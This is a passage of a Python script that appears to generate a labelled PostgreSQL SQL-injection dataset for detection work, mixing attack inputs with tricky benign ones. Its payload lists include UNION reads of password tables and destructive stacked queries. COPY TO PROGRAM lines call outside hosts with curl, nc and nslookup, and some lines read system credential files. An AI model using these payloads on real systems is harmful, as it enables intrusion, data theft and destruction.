    ("stacked", "Oracle", "Oracle stacked queries (DBMS_LOCK.SLEEP - comment)", ";BEGIN DBMS_LOCK.SLEEP({S}); END--"),
    ("stacked", "SQLite", "SQLite > 2.0 stacked queries (heavy query - comment)", ";SELECT LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(500000000/2))))--"),
    # inline queries
    ("inline", "PostgreSQL", "PostgreSQL inline queries", "(SELECT ({DSC})||(SELECT (CASE WHEN ({R0}={R0}) THEN 1 ELSE 0 END))::text||({DEC}))"),
    ("inline", "MySQL", "MySQL inline queries", "(SELECT CONCAT({DSH},(ELT({R0}={R0},1)),{DEH}))"),
    ("inline", "Microsoft SQL Server", "Microsoft SQL Server/Sybase inline queries", "(SELECT {DSM}+(CASE WHEN ({R0}={R0}) THEN CHAR(49) ELSE CHAR(48) END)+{DEM})"),
    ("inline", "Oracle", "Oracle inline queries", "(SELECT {DSC}||(CASE WHEN {R0}={R0} THEN 1 ELSE 0 END)||{DEC} FROM DUAL)"),
    ("inline", "Firebird", "Firebird inline queries", "(SELECT '{DS}'||(CASE {R0} WHEN {R0} THEN 1 ELSE 0 END)||'{DE}' FROM RDB$DATABASE)"),
]

SQLMAP_FAMILY = {"boolean": "sqlmap_boolean_blind", "time": "sqlmap_time_blind", "error": "sqlmap_error_based",
                 "stacked": "sqlmap_stacked_queries", "inline": "sqlmap_inline_query", "union": "sqlmap_union_query"}
EXTRACT_EXPRS = ["current_user", "version()", "current_database()", "current_schema()", "session_user",
                 "(SELECT usename FROM pg_user LIMIT 1 OFFSET 0)", "(SELECT passwd FROM pg_shadow WHERE usename=CHR(112)||CHR(111)||CHR(115)||CHR(116)||CHR(103)||CHR(114)||CHR(101)||CHR(115))",
                 "(SELECT COUNT(table_name) FROM information_schema.tables WHERE table_schema IN (CHR(112)||CHR(117)||CHR(98)||CHR(108)||CHR(105)||CHR(99)))"]


def instantiate(vec, orig):
    v = vec.replace("[V]", orig)
    v = v.replace("{K}", str(R.randint(1, 12))).replace("{A}", str(R.randint(48, 122)))
    v = v.replace("{EXPR}", R.choice(EXTRACT_EXPRS))
    return fill_vec(v)


def union_vector(dbms):
    ncols = R.randint(1, 9)
    pos = R.randrange(ncols)
    ds, de, mid = delim(), delim(), rmixstr(R.choice([10, 20, 40]))
    kind = R.random()
    if dbms == "PostgreSQL":
        mark = f"{chrs(ds)}||{chrs(mid)}||{chrs(de)}" if kind < 0.6 else f"{chrs(ds)}||COALESCE(CAST({R.choice(EXTRACT_EXPRS)} AS VARCHAR(10000))::text,(CHR(32)))||{chrs(de)}"
        nul = R.choice(["NULL", "NULL", "NULL::text"])
    elif dbms == "MySQL":
        mark, nul = f"CONCAT({hexs(ds)},{hexs(mid)},{hexs(de)})", "NULL"
    elif dbms == "Microsoft SQL Server":
        mark, nul = f"{mschars(ds)}+{mschars(mid)}+{mschars(de)}", "NULL"
    else:
        mark, nul = f"{chrs(ds)}||{chrs(mid)}||{chrs(de)}", "NULL"
    cols = [nul] * ncols
    if R.random() < 0.8:
        cols[pos] = mark
    op = R.choice(["UNION ALL SELECT", "UNION ALL SELECT", "UNION SELECT"])
    v = f"{op} {','.join(cols)}"
    if dbms == "Oracle":
        v += " FROM DUAL"
    return v


def order_probe():
    return f"ORDER BY {R.choice([1, 2, 3, 4, 5, 6, 7, 8, 9, 10, R.randint(1000, 9999)])}"


# ---------------------------------------------------------------------------
# Boundaries
# ---------------------------------------------------------------------------
COMMENTS_SQL = ["-- ", "-- -", "--", "--+", "-- " + "{RS}", "/*", "#"]


def comment_tail(dbms):
    c = R.choice(COMMENTS_SQL)
    if dbms == "MySQL" and R.random() < 0.5:
        c = "#"
    return fill_vec(c)


def orig_value(kind, t, slot):
    if kind in ("num", "numlist"):
        return R.choice(["1", "7", "42", "250", "3"])
    if kind == "col":
        return R.choice(["id", "1", "subject", "street"])
    if kind == "dir":
        return R.choice(["ASC", "DESC"])
    fam, vals = benign_pool(t, slot)
    v = R.choice(vals)
    return v if "'" not in v and "\\" not in v and len(v) < 30 else R.choice(["1", "admin", "test", "foo"])


def str_boundary(t):
    """(close, suffix-or-None) for a quoted slot; None suffix = use a comment."""
    right = t["close"]
    if R.random() < 0.75:
        close = right
    else:
        close = R.choice(["'", "')", "'))", "\"", "%'", "')))", "`", "'\"", ""])
    if R.random() < 0.45:
        return close, None
    # rebalancing suffix, like sqlmap's  AND 'x'='x  (only if close is the template's own)
    if close == right and t["reopen"]:
        return close, fill_vec(t["reopen"].replace("'z'='z", "'{RS}'='{RS}"))
    opens = close.count(")")
    if close.startswith("'"):
        return close, " AND " + "(" * opens + fill_vec("'{RS}'='{RS}")
    return close, None


def sqlmap_attack(t, slot, kind, tech, dbms, title, vec):
    """Returns input text (unescaped) or None if not applicable to the slot."""
    orig = orig_value(kind, t, slot)
    replaces = vec.startswith("(")
    order = vec.startswith(",")
    stacked = vec.startswith(";")
    body = vec if tech == "union" else instantiate(vec, orig if kind in ("num", "numlist") else "1")
    if kind in ("col", "dir"):
        if order:
            return orig + body
        if replaces:
            return body
        if stacked:
            return orig + body
        if tech == "union":
            return orig + " " + body + " " + comment_tail(dbms)
        return orig + " " + body + (" " + comment_tail(dbms) if R.random() < 0.5 else "")
    if order:
        return None
    if kind in ("num", "numlist"):
        if replaces:
            return body
        if vec.startswith("OR") or vec.startswith("RLIKE"):
            orig = "-" + rnum()
        close = num_close(t) if R.random() < 0.5 else ""
        if stacked:
            return orig + close + body
        tail = ""
        r = R.random()
        if close and t["reopen"] and r < 0.5:
            tail = fill_vec(t["reopen"].replace("1=1", "{R0}={R0}"))
        elif r < 0.55 and tech != "union":
            tail = ""
        else:
            tail = " " + comment_tail(dbms)
        return f"{orig}{close} {body}{tail}"
    # quoted slots
    if replaces:
        if tech in ("inline", "error", "boolean", "time") and R.random() < 0.7:
            if dbms == "Microsoft SQL Server":
                return f"{orig}'+{body}+'"
            if dbms == "MySQL" and tech == "inline":
                return f"{orig}' AND {body} AND '{rstr()}'='{rstr()}"
            return f"{orig}'||{body}||'"
        return body
    if vec.startswith("OR") and R.random() < 0.5:
        orig = "-" + rnum() if R.random() < 0.5 else orig + rstr(2)
    close, suffix = str_boundary(t)
    if stacked:
        return orig + close + body
    if tech == "union" or suffix is None:
        return f"{orig}{close} {body} {comment_tail(dbms)}"
    return f"{orig}{close} {body}{suffix}"


# ---------------------------------------------------------------------------
# Hand-written PostgreSQL attack cores.  Each follows a closed slot; a tail
# (comment or rebalancing suffix) is added by the boundary.
# ---------------------------------------------------------------------------
HAND = {
    "tautology": [
        "OR 'ok'='ok'", "OR 4>3", "OR ''=''", "OR 'abc' ILIKE 'a%'", "OR TRUE", "OR NOT FALSE",
        "OR 2 BETWEEN 1 AND 3", "OR 1 IN (1,2)", "OR length('ab')=2", "OR 'p' <> 'q'", "OR (SELECT true)",
        "OR 9=9::bigint", "OR 'a'||'b'='ab'", "OR current_date IS NOT NULL", "OR EXISTS(SELECT 1)",
        "OR 1::bool", "OR 'yes'::boolean", "OR 3 = ANY(ARRAY[1,2,3])", "OR 0.5<1.5", "OR upper('x')='X'",
        "OR 5 IS NOT NULL", "OR 'k' SIMILAR TO 'k'", "OR coalesce(NULL,1)=1", "OR 1 <> 2",
    ],
    "union": [
        "UNION SELECT usename, passwd FROM pg_shadow", "UNION ALL SELECT table_schema, table_name FROM information_schema.tables",
        "UNION SELECT rolname, rolpassword FROM pg_authid", "UNION SELECT NULL, string_agg(datname, ',') FROM pg_database",
        "UNION SELECT 1, pg_read_file('postgresql.conf')", "UNION SELECT column_name, data_type FROM information_schema.columns WHERE table_name='members'",
        "UNION SELECT inet_server_addr()::text, inet_server_port()::text", "UNION ALL SELECT current_user, version(), NULL",
        "UNION SELECT relname, relkind::text FROM pg_class WHERE relnamespace=2200", "UNION ALL SELECT NULL, NULL, NULL, NULL, NULL",
        "UNION SELECT proname, prosrc FROM pg_proc LIMIT 5", "UNION SELECT setting, name FROM pg_settings WHERE name LIKE '%file%'",
        "UNION (SELECT login, pass_hash FROM members)", "UNION DISTINCT SELECT 'a', 'b'", "UNION SELECT * FROM api_tokens",
        "UNION SELECT key, value FROM app_secrets ORDER BY 1",
    ],
    "stacked": [
        "; DROP TABLE members CASCADE", "; DELETE FROM audit_trail", "; UPDATE members SET role='owner' WHERE login='mallory'",
        "; INSERT INTO members(login, role) VALUES ('mallory', 'admin')", "; ALTER USER app_rw WITH SUPERUSER",
        "; CREATE ROLE shadow LOGIN PASSWORD 'letmein' SUPERUSER", "; TRUNCATE TABLE invoices RESTART IDENTITY",
        "; SET ROLE postgres", "; DROP SCHEMA public CASCADE", "; SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()",
        "; DROP DATABASE production", "; REVOKE ALL ON SCHEMA public FROM PUBLIC", "; ALTER SYSTEM SET log_statement = 'none'",
        "; SELECT pg_reload_conf()", "; GRANT pg_read_server_files TO app_rw", "; ALTER TABLE members DISABLE ROW LEVEL SECURITY",
        "; CREATE TABLE loot AS SELECT * FROM members", "; COMMIT; DROP TABLE sessions", "; END; DELETE FROM orders",
        "; ALTER TABLE audit_trail DISABLE TRIGGER ALL", "; SELECT set_config('role', 'postgres', false)",
        "; RESET SESSION AUTHORIZATION; DROP TABLE members", "; DROP OWNED BY app_ro", "; VACUUM FULL",
    ],
    "time_pg_sleep": [
        "AND pg_sleep(10) IS NULL", "AND 1=(SELECT 1 FROM PG_SLEEP(5))", "AND pg_sleep(5.5)::text=''", "AND (SELECT pg_sleep_for('5 sec')) IS NULL",
        "AND pg_sleep_until(now() + interval '7 s') IS NULL", "AND pg_catalog.pg_sleep(4) IS NULL", "OR (SELECT pg_sleep(3)) IS NULL",
        "AND (SELECT CASE WHEN substr(current_user,1,1)='p' THEN pg_sleep(5) END) IS NULL", "; SELECT pg_sleep(0.1*60)",
        "AND 0=(SELECT count(*) FROM pg_sleep(length(version())/20))", "; SELECT pg_sleep_for('1 minute')",
        "AND EXISTS(SELECT pg_sleep(6))", "OR 1=(SELECT 1 FROM pg_sleep(3) WHERE current_user='postgres')",
        "AND (WITH s AS (SELECT pg_sleep(8)) SELECT count(*) FROM s)=1",
    ],
    "boolean_blind": [
        "AND substr(current_user,1,1)='p'", "AND (SELECT count(*) FROM pg_tables) > 50", "AND ascii(substring(version() from 1 for 1)) = 80",
        "AND current_database() LIKE 'app%'", "AND has_database_privilege(current_database(),'CREATE')",
        "AND (SELECT rolsuper FROM pg_roles WHERE rolname = current_user)", "AND pg_has_role('pg_read_server_files','member')",
        "AND octet_length(current_setting('server_version')) > 3", "AND left(session_user, 2) = 'po'",
        "AND (SELECT 1 FROM pg_user WHERE usename='postgres' AND usesuper)=1", "AND starts_with(current_setting('data_directory'), '/var')",
        "AND (SELECT count(*) FROM members WHERE login='admin' AND pass_hash LIKE '$2%')=1", "AND current_setting('is_superuser')='on'",
        "AND (SELECT relpages FROM pg_class WHERE relname='members')>0", "AND inet_server_addr() <<= '10.0.0.0/8'",
        "AND get_bit(convert_to(current_user,'UTF8'),3)=1",
    ],
    "error_cast": [
        "AND 1=CAST(current_user AS int)", "AND 1=(SELECT version())::int", "AND 1=current_setting('data_directory')::numeric",
        "AND 1=('~'||(SELECT string_agg(usename, ':') FROM pg_user))::int", "AND 1=to_number(inet_server_addr()::text, '9')",
        "AND 1=(query_to_xml('SELECT passwd FROM pg_shadow', true, false, ''))::text::int", "AND 1=CAST(pg_read_file('pg_hba.conf', 0, 200) AS bigint)",
        "AND 1=(SELECT chr(126)||datname FROM pg_database LIMIT 1)::int", "AND 1=cast(to_jsonb(session_user) AS text)::int",
        "AND 1=(SELECT (SELECT passwd FROM pg_shadow LIMIT 1)::integer)", "AND 1=int4(current_schema())",
        "AND 1=(xpath('/x', xmlparse(document current_user)))[1]::text::int", "AND 1=CAST(array_to_string(ARRAY(SELECT tablename FROM pg_tables), ',') AS smallint)",
        "AND 1=(SELECT login||':'||pass_hash FROM members LIMIT 1)::numeric", "AND 'x'=(1/(SELECT count(*)-count(*) FROM pg_user))::text",
        "AND 1=current_user::regclass::int",
    ],
    "oob_file_program": [
        "; COPY (SELECT current_user) TO PROGRAM 'curl -s http://exfil.attacker.example/c'", "; CREATE TABLE cmd_out(l text); COPY cmd_out FROM PROGRAM 'cat /etc/passwd'",
        "; COPY (SELECT '') TO '/tmp/pwned.txt'", "; SELECT lo_import('/etc/shadow')", "; SELECT lo_export((SELECT max(oid) FROM pg_largeobject_metadata), '/var/lib/postgresql/.ssh/authorized_keys')",
        "AND pg_read_file('/etc/passwd') IS NOT NULL", "UNION SELECT encode(pg_read_binary_file('/etc/hostname'),'escape'), NULL",
        "; SELECT * FROM dblink('host=198.51.100.4 user=x dbname=y', 'SELECT 1') AS t(a int)", "; CREATE EXTENSION IF NOT EXISTS dblink",
        "; SELECT pg_ls_dir('/tmp')", "AND (SELECT size FROM pg_stat_file('/etc/passwd')) > 0", "AND (SELECT count(*) FROM pg_ls_waldir()) > 0",
        "; CREATE TEMP TABLE f(l text); COPY f FROM '/etc/passwd'", "; ALTER SYSTEM SET archive_command = 'nc 203.0.113.5 4444 < %p'",
        "; SELECT dblink_exec('hostaddr=203.0.113.9 dbname=x user=y', 'DROP TABLE x')", "; CREATE OR REPLACE FUNCTION run(text) RETURNS int AS '/tmp/evil.so', 'run' LANGUAGE C STRICT",
        "; SELECT lo_from_bytea(0, decode('f0VMRgIBAQ==', 'base64'))", "; COPY (SELECT passwd FROM pg_shadow) TO PROGRAM 'nslookup $(whoami).leak.example'",
        "; SELECT lo_put(4242, 0, 'payload'::bytea)", "AND length(pg_read_file('global/pg_control', 0, 8))=8",
        "; COPY members TO '/var/www/html/m.csv' WITH CSV", "; SELECT * FROM pg_read_file('/proc/self/environ')",
    ],
    "plpgsql_do_exec": [
        "; DO $d$ BEGIN EXECUTE 'GRANT pg_execute_server_program TO ' || current_user; END $d$",
        "; DO LANGUAGE plpgsql 'BEGIN PERFORM pg_sleep(5); END'",
        "; DO $$ DECLARE r record; BEGIN FOR r IN SELECT tablename FROM pg_tables WHERE schemaname='public' LOOP EXECUTE 'DROP TABLE ' || quote_ident(r.tablename); END LOOP; END $$",
        "; DO E'BEGIN RAISE EXCEPTION ''%'', version(); END'",
        "; DO $$ BEGIN EXECUTE convert_from(decode('RFJPUCBUQUJMRSBtZW1iZXJz', 'base64'), 'UTF8'); END $$",
        "; CREATE FUNCTION x() RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS $f$ BEGIN EXECUTE 'ALTER ROLE app_rw SUPERUSER'; END $f$",
        "; DO $body$ BEGIN IF current_user = 'postgres' THEN PERFORM pg_sleep(4); END IF; END $body$",
        "; DO $$ BEGIN EXECUTE format('COPY (SELECT 1) TO PROGRAM %L', 'id'); END $$",
        "; DO $x$ DECLARE c text := chr(84)||'RUNCATE members'; BEGIN EXECUTE c; END $x$",
        "; CREATE OR REPLACE FUNCTION public.lower(text) RETURNS text LANGUAGE sql AS 'SELECT $1'",
    ],
    "dollar_quote": [
        "OR $$a$$=$$a$$", "UNION SELECT $$x$$, passwd FROM pg_shadow", "; COPY (SELECT 1) TO PROGRAM $p$id$p$",
        "AND current_user = $u$postgres$u$", "OR $q$1$q$::int=1", "AND 1=CAST($t$x$t$||version() AS int)",
        "; INSERT INTO members(login, role) VALUES ($a$eve$a$, $a$admin$a$)", "AND (SELECT $$1$$)=$$1$$",
    ],
    "e_escape": [
        "OR E'\\x31'=E'\\x31'", "AND current_user=E'\\160\\157stgres'", "UNION SELECT E'\\x70asswd', NULL",
        "AND 1=CAST(E'\\x7e'||version() AS int)", "; COPY (SELECT 1) TO PROGRAM E'\\x69\\x64'", "OR E'a\\'b'=E'a\\'b'",
        "AND pg_read_file(E'/etc/\\x70asswd') IS NOT NULL", "OR E'\\u0041'='A'",
    ],
    "obf_unicode_escape": [
        "OR U&'\\0061'='a'", "AND current_user=U&'\\0070ostgres'", "; COPY (SELECT 1) TO PROGRAM U&'\\0069\\0064'",
        "AND U&'!0031' UESCAPE '!'='1'", "UNION SELECT U&\"\\0070asswd\", NULL FROM pg_shadow",
    ],
    "obf_chr_concat": [
        "OR CHR(97)=CHR(97)", "AND current_user=CHR(112)||CHR(111)||CHR(115)||CHR(116)||CHR(103)||CHR(114)||CHR(101)||CHR(115)",
        "; COPY (SELECT 1) TO PROGRAM CHR(105)||CHR(100)", "UNION SELECT CHR(58)||usename, NULL FROM pg_user",
        "AND 1=CAST(CHR(126)||current_database() AS int)",
    ],
}

CONCAT = [  # string-concatenation breakouts for quoted slots: pre + X + post
    ("string_concat_subquery", "'||(SELECT passwd FROM pg_shadow LIMIT 1)||'"), ("string_concat_subquery", "'||current_setting('is_superuser')||'"),
    ("string_concat_subquery", "'||(SELECT string_agg(tablename, ',') FROM pg_tables)||'"), ("string_concat_subquery", "'||chr(39)||version()||'"),
    ("string_concat_subquery", "'||lpad(current_user, 20, '*')||'"), ("string_concat_subquery", "'||(SELECT pass_hash FROM members WHERE login='admin')||'"),
    ("string_concat_subquery", "'||inet_server_addr()||'"), ("time_pg_sleep", "'||pg_sleep(5)||'"), ("time_pg_sleep", "'||(SELECT pg_sleep(4))::text||'"),
    ("string_concat_subquery", "'||(SELECT count(*) FROM pg_stat_activity)::text||'"), ("oob_file_program", "'||pg_read_file('/etc/hostname')||'"),
]
NUM_EXPR = [  # expressions replacing a number
    ("string_concat_subquery", "(SELECT count(*) FROM pg_user)"), ("string_concat_subquery", "length(current_user)"),
    ("string_concat_subquery", "0+(SELECT oid FROM pg_database LIMIT 1)::int"), ("time_pg_sleep", "(SELECT 1 FROM pg_sleep(5))"),
    ("error_cast", "(SELECT current_user::int)"), ("boolean_blind", "(CASE WHEN current_user='postgres' THEN 1 ELSE 0 END)"),
    ("tautology", "1 OR 1=1"), ("tautology", "0 OR true"), ("stacked", "1; DROP TABLE cart_lines"),
]

OBF_BASES = [  # (family, core) used for obfuscation
    ("tautology", "OR 'ok'='ok'"), ("union", "UNION SELECT usename, passwd FROM pg_shadow"), ("time_pg_sleep", "AND 1=(SELECT 1 FROM PG_SLEEP(5))"),
    ("stacked", "; DROP TABLE members CASCADE"), ("oob_file_program", "; COPY (SELECT '') TO PROGRAM 'id'"),
    ("error_cast", "AND 1=CAST(current_user AS int)"), ("boolean_blind", "AND substr(current_user,1,1)='p'"),
    ("stacked", "; UPDATE members SET role='owner' WHERE login='mallory'"), ("union", "UNION ALL SELECT table_name, NULL FROM information_schema.tables"),
    ("sqlmap", "AND 4406=(SELECT 4406 FROM PG_SLEEP(5))"),
]


def _map_words(core, fn):
    toks = lex(core)
    out = []
    for k, a, b in toks:
        out.append(fn(k, core[a:b]))
    return "".join(out)


def obf_case(core):
    return _map_words(core, lambda k, w: "".join(c.upper() if R.random() < 0.5 else c.lower() for c in w) if k == "word" else w)


def obf_inline(core):
    def f(k, w):
        if k == "ws":
            return R.choice(["/**/", "/*x*/", " /**/ ", "/*--*/", "/*\n*/"])
        if k == "word" and len(w) > 4 and w.upper() in ("UNION", "SELECT", "DROP", "TABLE", "SLEEP", "CAST", "UPDATE", "COPY", "PROGRAM") and R.random() < 0.4:
            cut = R.randint(1, len(w) - 1)
            return w[:cut] + "/**/" + w[cut:]
        return w
    return _map_words(core, f)


def obf_ws(core):
    return _map_words(core, lambda k, w: R.choice(["\t", "\n", "\r\n", "\f", "\t\t", "\n\t", "  \n"]) if k == "ws" else w)


def obf_nospace(core):
    toks = lex(core)
    out = []
    for idx, (k, a, b) in enumerate(toks):
        w = core[a:b]
        if k == "ws":
            prev = toks[idx - 1] if idx else None
            nxt = toks[idx + 1] if idx + 1 < len(toks) else None
            if prev and nxt and prev[0] == "word" and nxt[0] in ("word", "num"):
                out.append(R.choice(["/**/", "\t", "+"]) if False else "/**/")
            elif prev and nxt and prev[0] == "num" and nxt[0] == "word":
                out.append("/**/")
            else:
                out.append("")
        else:
            out.append(w)
    return "".join(out)


OBFS = {"obf_case_mix": obf_case, "obf_inline_comment": obf_inline, "obf_whitespace": obf_ws, "obf_nospace": obf_nospace}

# ---------------------------------------------------------------------------
# Benign inputs
# ---------------------------------------------------------------------------
BENIGN = {
    "input_apostrophe_names": ["O'Brien", "Siobhán O'Sullivan", "D'Arcy", "N'Golo Kanté", "L'Hôpital", "Dunkin' Donuts", "Ma'ayan", "Jeanne d'Arc", "O'Reilly Media", "'t Hooft", "Hawai'i", "Martha's Vineyard"],
    "input_sql_words": ["Union Station", "drop table in text", "Select Committee", "Order of the Phoenix", "INSERT tab A into slot B", "Delete key stuck", "where to buy?", "Group By Street", "Join us!", "null and void", "Truncate the ends", "Grant & Co", "Alter Ego Studio", "case closed", "from here to there", "or else", "Table for two", "EXECutive suite", "Like a Prayer", "sleep study"],
    "input_punctuation": ["a--b", "/* keep */", "x;y", "#1 seller", "50%", "under_score", "(sic)", "--", "..", ";;", "@home", "~tilde", "a|b", "&&", "{braces}", "100$", "$5.00", "\"quoted\"", "back`tick", "a'b'c"],
    "input_url_email": ["bob.smith@example.org", "https://shop.example.com/p?id=1&ref=mail", "http://example.net/a;b?c=d#frag", "first.o'malley@example.ie", "user+filter@mail.example", "https://example.com/search?q=select%20*%20from", "s3://bucket/key name.csv", "ftp://anon@files.example.net/pub"],
    "input_json_text": ['{"a":1,"b":[true,false]}', '{"name":"O\'Neil","age":40}', '[1,2,3]', '{"query":"DROP TABLE x"}', '{"nested":{"k":"v"}}', '"just a string"', '{"sql":"1\' OR \'1\'=\'1"}', '{"emoji":"\\ud83d\\ude00"}'],
    "input_unicode": ["München", "İstanbul", "北京市", "Ωmega", "naïve résumé", "קוד", "😀 smile", "Łódź", "ﬃ ligature", "Z͑͗a̅l͊g̈o", "‘smart quotes’", "\u00a0nbsp\u00a0", "한국어", "Þórshöfn"],
    "input_plain": ["alpha", "Springfield", "green tea", "summer sale", "jdoe", "pending", "Q3 report", "ACME-42", "hello world", "eu-central"],
    "input_long_text": [
        "We arrived late, but the staff were friendly; the room was clean and the view was great. Would recommend to anyone who wants to select a quiet place, drop their bags and relax. " * 3,
        ("The quarterly union meeting covered the update to the table of contents and the order of business. " * 8).strip(),
        "abc " * 400,
    ],
    "input_whitespace": ["  two  spaces  ", "new\nline", "tab\there", "\tleading tab", "trailing   ", "cr\rlf", "\n"],
    "input_code_snippet": ["SELECT * FROM users WHERE id = 1;", "rm -rf / --no-preserve-root", "console.log('hi'); // done", "<?php echo $x; ?>", "x = y || z; -- not sql", "DROP TABLE IF EXISTS tmp;", "' OR 1=1 --", "UNION ALL SELECT NULL--", "'; exec xp_cmdshell('dir');--", "${jndi:ldap://x}"],
    "input_regex": ["^[A-Z]{3}-\\d+$", "(?i)db[0-9]+", "web-(01|02)\\.prod", ".*", "^$", "[[:alpha:]]+", "\\bfoo\\b", "a{2,5}?"],
}
NUM_BENIGN = ["0", "1", "3", "12", "25", "100", "750", "2048", "65535", "2.5", "0.01", "1e2", "0009", "2147483647", ".75", "3.14159"]
NUMLIST_BENIGN = ["1", "1, 2, 3", "10,20,30", "7", "5, 8", "101,102,103,104,105", "42,  43"]
COL_BENIGN = ["id", "subject", "received_at", "received_at DESC", "subject ASC", "\"Sender Name\"", "size_bytes desc", "id asc"]
DIR_BENIGN = ["ASC", "DESC", "asc", "desc", "DeSc"]
IDENT_BENIGN = ["daily_revenue", "Revenue 2025", "order", "user", "table", "a\"b", "drop table x", "semi;colon", "dash--dash", "Größe", "select * from", "O'Brien"]
DOLLAR_BENIGN = ["SELECT 1;", "SELECT * FROM t WHERE a = 'b' -- comment", "CREATE TABLE x (id int);", "DO $$ BEGIN RAISE NOTICE 'hi'; END $$;", "$1 + $2", "it's $5", "UPDATE t SET v = v || 'x';", "-- just a comment\n/* block */"]

SNIP_TAG = "$snip$"


def benign_pool(t, slot):
    if slot in t["vals"]:
        return t["vals"][slot]
    return ("input_plain", BENIGN["input_plain"])


def escape(kind, v):
    if kind == "str":
        return v.replace("'", "''")
    if kind == "estr":
        return v.replace("\\", "\\\\").replace("'", "''")
    if kind == "ident":
        return v.replace('"', '""')
    return v


# ---------------------------------------------------------------------------
# Filling and labelling
# ---------------------------------------------------------------------------
def render(t, contents):
    """contents: slot -> text placed verbatim.  Returns sql, [(kind,a,b,open,closelen)]."""
    sql, checks, last = "", [], 0
    src = t["sql"]
    for m in SLOT_RE.finditer(src):
        lit = src[last:m.start()].replace("{{", "{").replace("}}", "}")
        lit_start = len(sql)
        sql += lit
        name, kind = m.group(1), m.group(2)
        a = len(sql)
        sql += contents[name]
        b = len(sql)
        open_pos, close_len = None, 0
        if kind in ("str", "estr", "ident"):
            q = '"' if kind == "ident" else "'"
            open_pos = lit_start + lit.rfind(q) - (1 if kind == "estr" else 0)
            nxt = src[m.end():].replace("{{", "{").replace("}}", "}")
            close_len = nxt.index(q) + 1
        elif kind == "dollar":
            open_pos, close_len = a - len(SNIP_TAG), len(SNIP_TAG)
        checks.append((kind, a, b, open_pos, close_len))
        last = m.end()
    sql += src[last:].replace("{{", "{").replace("}}", "}")
    return sql, checks


def label_ok(sql, checks):
    toks = lex(sql)
    return all(slot_ok(sql, toks, k, a, b, o, c) for k, a, b, o, c in checks)


ROWS = []
SEEN = set()


def emit(sql, label, family, template, inputs, variant, attack_input=None):
    if sql in SEEN:
        return False
    SEEN.add(sql)
    ROWS.append(dict(sql=sql, label=label, family=family, template=template,
                     input=attack_input if attack_input is not None else (inputs[0] if len(inputs) == 1 else None),
                     inputs=inputs, variant=variant))
    return True


def default_fills(t, skip):
    vals = {}
    for name, kind in t["slots"]:
        if name == skip:
            continue
        if kind in ("num",):
            vals[name] = R.choice(["1", "5", "20", "3", "100"])
        elif kind == "numlist":
            vals[name] = R.choice(NUMLIST_BENIGN)
        elif kind == "col":
            vals[name] = R.choice(t["vals"].get(name, ("", COL_BENIGN))[1]) if name in t["vals"] else R.choice(COL_BENIGN)
        elif kind == "dir":
            vals[name] = R.choice(DIR_BENIGN)
        else:
            fam, pool = benign_pool(t, name)
            vals[name] = R.choice(pool)
    return vals


def try_fill(t, slot, raw, escaped):
    """Put raw in slot (escaped or not), other slots benign.  -> sql, ok, inputs"""
    kinds = dict(t["slots"])
    others = default_fills(t, slot)
    contents = {n: escape(kinds[n], v) for n, v in others.items()}
    contents[slot] = escape(kinds[slot], raw) if escaped else raw
    sql, checks = render(t, contents)
    inputs = [raw if n == slot else others[n] for n, _ in t["slots"]]
    return sql, label_ok(sql, checks), inputs


def attack_row(t, slot, raw, family, variant):
    """Unescaped attack input.  attack if it leaves its slot, else contained."""
    sql, ok, inputs = try_fill(t, slot, raw, False)
    if ok:
        return emit(sql, "benign", "contained_attack_string", t["name"], inputs, "contained:" + variant, raw) and "contained"
    return emit(sql, "attack", family, t["name"], inputs, variant, raw) and "attack"


def benign_row(t, slot, raw, family, variant):
    sql, ok, inputs = try_fill(t, slot, raw, True)
    if not ok:
        raise SystemExit(f"benign input leaves its slot: {t['name']} {raw!r}\n{sql}")
    return emit(sql, "benign", family, t["name"], inputs, variant, raw)


def num_close(t):
    """The template's closing sequence if it suits a number slot."""
    c = t["close"]
    return c if (c and "'" not in c and '"' not in c and "$" not in c) else ""


def hand_tail(t, kind, close):
    """Tail for a hand-written core after a close sequence."""
    r = R.random()
    if kind in ("num", "numlist", "col", "dir") and r < 0.45:
        return ""
    if close == t["close"] and t["reopen"] and r < 0.7:
        return t["reopen"]
    return " " + R.choice(["--", "-- ", "-- x", "--+", "/*", "; --", "-- '"])


def hand_attack(t, slot, kind, family, core, tag):
    if kind in ("num", "numlist"):
        pre = R.choice(["1", "0", "13", "99", "-1", "2"])
        close = num_close(t) if R.random() < 0.6 else ""
    elif kind == "col":
        pre, close = R.choice(["id", "received_at", "street", "1"]), ""
    elif kind == "dir":
        pre, close = R.choice(["ASC", "DESC"]), ""
    elif kind == "dollar":
        pre = R.choice(["x", "", "SELECT 1;"])
        close = "$snip$" if R.random() < 0.6 else R.choice(["$$", "'", "$body$"])
    else:
        pre = R.choice(["x", "admin", "1", "", "guest", "zz9"])
        if t["like"]:
            pre = R.choice(["ab", "", "2025"])
        close = t["close"] if R.random() < 0.8 else R.choice(["'", "')", "\"", "'))", "';", "`"])
        if kind == "ident":
            close = '"' if R.random() < 0.85 else "'"
    if core.startswith(";"):
        sep = ""
    else:
        sep = R.choice([" ", " ", " ", "  "])
    tail = hand_tail(t, kind, close)
    if core.rstrip().endswith("$") or core.rstrip().endswith("'") and tail.startswith(" AND"):
        tail = R.choice([" --", ""])
    if kind == "dollar" and close == "$snip$":
        tail = R.choice([" -- ", "; SELECT $snip$", " -- $snip$"])
        if tail.startswith("; SELECT"):
            tail = ", 1); SELECT $snip$"
    if kind == "ident":
        # an identifier context: the core is spliced where a column/table name was
        core2 = R.choice(["FROM pg_shadow", "FROM members", "AS a, (SELECT passwd FROM pg_shadow LIMIT 1) AS b FROM pg_shadow"]) + " " + core if not core.startswith(";") else core
        raw = f"{pre}{close} {core2} --" if not core.startswith(";") else f"{pre}{close}{core} --"
        return attack_row(t, slot, raw, family, f"hand:{family}:{tag}|close={close or 'none'}")
    raw = f"{pre}{close}{sep}{core}{tail}"
    return attack_row(t, slot, raw, family, f"hand:{family}:{tag}|close={close or 'none'}")


def backslash_attacks(t, slot, kind):
    """Application escapes wrongly: backslash-escaping (MySQL style) in a
    standard string, or quote doubling without backslash handling in E''."""
    cores = ["OR 1=1--", "UNION SELECT usename, passwd FROM pg_shadow--", "; DROP TABLE members--", "AND 1=CAST(version() AS int)--", "AND pg_sleep(5) IS NULL--"]
    out = []
    if R.random() > 0.3:
        return
    for core in R.sample(cores, 1):
        if kind == "str":
            raw = "x' " + core
            spliced = raw.replace("'", "\\'")
        elif kind == "estr":
            raw = "\\' " + core
